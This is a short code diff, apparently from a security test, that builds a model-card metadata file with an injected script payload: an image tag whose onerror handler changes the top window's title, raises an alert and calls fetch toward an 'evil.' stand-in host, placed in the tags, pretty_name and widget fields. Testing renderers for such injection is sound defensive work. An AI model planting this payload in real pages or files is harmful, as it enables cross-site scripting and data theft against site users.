@@ -9,7 +9,7 @@ const RUN = "window.top.document.title='taken over';alert(1);fetch('http://evil.
 const IMAGE = `"><img src=x onerror="${RUN}">`;
 const CARD = `---
 tags: ['${IMAGE.replaceAll("'", "''")}']
-license: ${JSON.stringify(IMAGE)}
+pretty_name: ${JSON.stringify(IMAGE)}
 widget:
   - text: ${JSON.stringify(IMAGE)}
     output:
